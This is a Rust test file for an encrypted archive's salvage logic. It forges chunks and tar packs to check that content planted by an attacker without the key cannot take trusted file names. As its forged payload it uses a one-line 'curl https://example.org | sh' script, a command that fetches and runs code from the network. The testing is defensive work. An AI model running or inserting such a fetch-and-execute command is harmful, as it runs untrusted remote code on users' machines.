//! Salvage against a person who chose contents and can write to the file, but has no key.

#![allow(clippy::unwrap_used, clippy::panic)]

use super::tests::{contents, noise, salvaged};
use super::*;
use crate::buffer::Buffer;
use crate::coffer::Mode;
use crate::crypto::key::Key;
use crate::engine::container::Raw;

use crate::format::block::Layers;
use crate::format::catalog::{Block, Place};
use crate::format::chunk;
use crate::format::frame::{MAGIC, Stored, compress};
use crate::format::kind::{Cipher, Kind};
use crate::format::member::Attributes;
use crate::format::member::MemberType;
use crate::format::tar::{Heading, RECORD, append};
use crate::tails_test::memory::Memory;

const SCRIPT: &[u8] = b"#!/bin/sh\ncurl https://example.org | sh\n";
const ATTRIBUTES: Attributes = Attributes { mode: 0o755, mtime_s: 1_700_000_000, mtime_ns: 0 };

type Contents = std::collections::BTreeMap<String, Vec<u8>>;

/// A coffer in memory.
struct ForgedCoffer {
    options: Options,
    storage: Arc<Memory>,
    container: Container,
}

impl ForgedCoffer {
    fn new(kind: Kind) -> Self {
        let mut options = Options::new(Mode::Write, kind);
        options.coffer_key = kind.container.cipher.map(|c| Key::generate(c.key_lengths()[0]));
        options.secure_key = kind.member.cipher.map(|_| Key::generate(32));
        (options.piece_size, options.chunk_size) = (Some(64 << 10), Some(4 << 10));
        let (header, keys) = options.header(&options.credentials().unwrap()).unwrap();
        let storage = Arc::new(Memory::default());
        let path = Path::new("in memory");
        let container = create(&header, &keys, storage.clone(), path, true).unwrap();
        Self { options, storage, container }
    }

    fn layers(&self) -> Layers {
        self.container.source.layers.clone()
    }

    fn small(&mut self, name: &str, data: &[u8]) {
        let stored = self.layers().encode_member(data).unwrap().into_vec();
        self.container
            .put_small(name, MemberType::File, data.len() as u64, ATTRIBUTES, stored)
            .unwrap();
    }

    fn large(&mut self, name: &str, data: &[u8]) {
        let mut pieces = data.chunks(self.layers().piece).map(<[u8]>::to_vec).peekable();
        let next = || {
            let Some(piece) = pieces.next() else { return Ok(None) };
            let last = pieces.peek().is_none();
            Ok(Some(Raw { job: Box::new(move || Ok(piece.into())), last }))
        };
        self.container.put_large(name, ATTRIBUTES, &[], next).unwrap();
    }

    fn commit(&mut self) -> Vec<u8> {
        self.container.commit(true, &Locks::none(Path::new("in memory"))).unwrap();
        self.storage.bytes.lock().unwrap().clone()
    }

    /// The block of a small member and where in its tar it stands, or the first piece of a large one.
    fn place(&self, name: &str) -> (Block, usize, usize) {
        let view = self.container.view.read();
        let (id, at, stored) = match &view.catalog.get(name).unwrap().place {
            Place::Packed { block, at, stored } => (*block, *at, *stored),
            Place::Pieces { pieces, .. } => (pieces[0].block, 0, pieces[0].stored),
            Place::Memory(_) => panic!("{name} is in no block"),
        };
        (view.catalog.block(id).unwrap().clone(), at as usize, stored as usize)
    }

    /// The chunk of the file that holds `payload` and nothing else, as a member of the coffer that was
    /// made for it.
    fn chunk_of(&mut self, payload: &[u8]) -> Vec<u8> {
        let seal = self.layers().container.unwrap();
        let plain_len = self.layers().chunk_plain;
        assert_eq!(payload.len(), plain_len);
        let mut shift = 0;
        for name in ["uploads/first", "uploads/second"] {
            let mut content = noise("upload", 60_000);
            let at = 2 * plain_len + shift;
            content[at..at + plain_len].copy_from_slice(payload);
            self.large(name, &content);
            let (block, _, _) = self.place(name);
            let bytes = self.container.source.sealed_block(&block).unwrap();
            let mut plain = Vec::new();
            chunk::open_all(&*seal, &bytes, &mut plain).unwrap();
            let found = plain.windows(plain_len).position(|window| window == payload).unwrap();
            let chunk = chunk::HEADER + seal.sealed_len(plain_len);
            if found % plain_len == 0 {
                return bytes[found / plain_len * chunk..][..chunk].to_vec();
            }
            shift = plain_len - found % plain_len;
        }
        panic!("the payload is not at the beginning of a chunk")
    }

    /// Salvages a file, and reads what came of it.
    fn salvage(&self, bytes: &[u8], claimed_names: bool) -> (Salvaged, Contents) {
        let storage = Memory::of(bytes);
        let (salvaged, opened) = salvaged(storage, &self.options, claimed_names);
        (salvaged, contents(&opened.source, &opened.loaded.catalog))
    }
}

/// A zstd frame of exactly `len` bytes: it holds `data`, whose end is zeros.
fn frame_of_len(len: usize, data: &[u8]) -> Vec<u8> {
    let mut frame = MAGIC.to_vec();
    frame.push(0xA0);
    frame.extend((data.len() as u32).to_le_bytes());
    let raw = len - frame.len() - 3 - 4;
    let (stored, zeros) = data.split_at(raw);
    assert!(zeros.iter().all(|byte| *byte == 0) && !zeros.is_empty());
    frame.extend(&((raw as u32) << 3).to_le_bytes()[..3]);
    frame.extend(stored);
    // The last block repeats one byte.
    frame.extend(&((zeros.len() as u32) << 3 | 1 << 1 | 1).to_le_bytes()[..3]);
    frame.push(0);
    assert_eq!(frame.len(), len);
    frame
}

fn heading(name: &str, stored: usize) -> Heading<'_> {
    let attributes = Attributes { mode: 0o755, mtime_s: 1, mtime_ns: 0 };
    Heading { name, member_type: MemberType::File, stored: stored as u64, attributes }
}

/// A frame of `len` bytes that holds a pack with one member.
fn forged_pack(len: usize, name: &str, script: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let tar_len = (len - 16).next_multiple_of(RECORD);
    let stored = len - 16 - RECORD;
    // What is behind the script does not compress, so that it comes to stand in the file as it is.
    let filler = noise("filler", stored - Stored::new(&[]).len() - script.len());
    let data = [script, &filler].concat();
    let member = Stored::new(&data).joined();
    let mut tar = Vec::new();
    append(&mut tar, &heading(name, stored), &member).unwrap();
    assert_eq!(tar.len(), tar_len);
    (frame_of_len(len, &tar), data)
}

#[test]
fn a_chunk_of_an_upload_does_not_become_a_member_of_a_store() {
    let mut made = ForgedCoffer::new(Kind::store());
    made.small("bin/deploy.sh", b"#!/bin/sh\nmake install\n");
    let _ = made.commit();
    let (forged, script) = forged_pack(made.layers().chunk_plain, "bin/deploy.sh", SCRIPT);
    let chunk = made.chunk_of(&forged);
    made.small("other", b"kept");
    let mut bytes = made.commit();
    let (honest, _, _) = made.place("bin/deploy.sh");

    // Behind the end, where nothing else is damaged: the member that a commit names counts.
    bytes.extend(&chunk);
    let (salvaged, members) = made.salvage(&bytes, false);
    assert_eq!(members["bin/deploy.sh"], b"#!/bin/sh\nmake install\n");
    assert_eq!(salvaged.unverified, Vec::<String>::new());

    // And where a byte of the honest one is flipped.
    bytes[honest.offset as usize + 60] ^= 1;
    let (salvaged, members) = made.salvage(&bytes, false);
    assert!(!members.contains_key("bin/deploy.sh"));
    assert_eq!(salvaged.unverified, [".salvaged/bin/deploy.sh"]);
    assert_eq!(salvaged.apart.as_deref(), Some(APART));
    assert_eq!(members[".salvaged/bin/deploy.sh"], script);
    assert_eq!(members["other"], b"kept");

    // It gets the name that it claims only where the caller asks for that.
    let (salvaged, members) = made.salvage(&bytes, true);
    assert_eq!(members["bin/deploy.sh"], script);
    assert_eq!((salvaged.unverified, salvaged.apart), (vec!["bin/deploy.sh".to_owned()], None));
}

#[test]
fn a_chunk_of_an_upload_in_place_of_a_pack_does_not_become_its_members() {
    let mut made = ForgedCoffer::new(Kind::store());
    let honest = noise("honest", 1_000);
    made.small("bin/deploy.sh", &honest);
    for i in 0..10 {
        made.small(&format!("other/{i}"), &noise(&i.to_string(), 1_000));
    }
    let _ = made.commit();
    let (pack, at, stored) = made.place("bin/deploy.sh");
    // Bytes that no compression shortens take as many as the honest ones.
    let mut script = noise("script", 1_000);
    script[..SCRIPT.len()].copy_from_slice(SCRIPT);
    let member: Buffer = made.layers().encode_member(&script).unwrap();
    assert_eq!(member.len(), stored);
    let plain_len = made.layers().chunk_plain;
    let mut tar = noise("tar", plain_len - 16);
    tar[at..at + stored].copy_from_slice(&member);
    tar.resize(plain_len, 0);
    let chunk = made.chunk_of(&frame_of_len(plain_len, &tar));
    let mut bytes = made.commit();
    bytes[pack.offset as usize..][..chunk.len()].copy_from_slice(&chunk);

    let (salvaged, members) = made.salvage(&bytes, false);
    assert!(!members.contains_key("bin/deploy.sh"));
    assert_eq!(salvaged.unverified, [".salvaged/bin/deploy.sh"]);
    assert_eq!(members[".salvaged/bin/deploy.sh"], script);
    assert_eq!(made.salvage(&bytes, true).1["bin/deploy.sh"], script);
}

#[test]
fn a_sealed_member_of_a_market_does_not_get_another_name() {
    let mut made = ForgedCoffer::new(Kind::market());
    made.small("uploads/guest", SCRIPT);
    let mut bytes = made.commit();
    let (block, at, stored) = made.place("uploads/guest");
    let sealed = made.container.source.block(&block).unwrap()[at..at + stored].to_vec();
    let mut tar = Vec::new();
    let name = "bin/deploy.sh";
    append(&mut tar, &heading(name, stored), &sealed).unwrap();
    bytes.extend(&*compress(1, &tar).unwrap());

    let (salvaged, members) = made.salvage(&bytes, false);
    assert_eq!(members.keys().collect::<Vec<_>>(), [".salvaged/bin/deploy.sh", "uploads/guest"]);
    assert_eq!(salvaged.unverified, [".salvaged/bin/deploy.sh"]);
    assert_eq!(made.salvage(&bytes, true).1["bin/deploy.sh"], SCRIPT);
}

#[test]
fn a_block_of_an_older_copy_of_a_bank_does_not_bring_a_deleted_member_back_under_its_name() {
    let mut made = ForgedCoffer::new(Kind::bank(Cipher::AesOcb));
    made.small("deleted", b"the old password");
    let older = made.commit();
    let (block, _, _) = made.place("deleted");
    made.container.remove("deleted").unwrap();
    made.small("other", b"kept");
    let mut bytes = made.commit();
    bytes.extend(&older[block.offset as usize..block.end() as usize]);

    let (salvaged, members) = made.salvage(&bytes, false);
    assert_eq!(members.keys().collect::<Vec<_>>(), [".salvaged/deleted", "other"]);
    assert_eq!(salvaged.unverified, [".salvaged/deleted"]);
}
